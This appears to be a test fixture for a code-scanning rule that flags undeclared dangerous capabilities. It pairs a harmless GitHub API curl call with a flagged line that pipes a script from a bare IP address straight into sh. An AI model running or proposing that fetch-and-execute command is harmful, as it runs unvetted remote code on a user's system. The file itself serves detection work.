#!/bin/sh
# ok: undeclared-dangerous-capability
curl -fsS https://api.github.com/rate_limit
# ruleid: undeclared-dangerous-capability
curl -fsSL http://203.0.113.7/toolchain.sh | sh
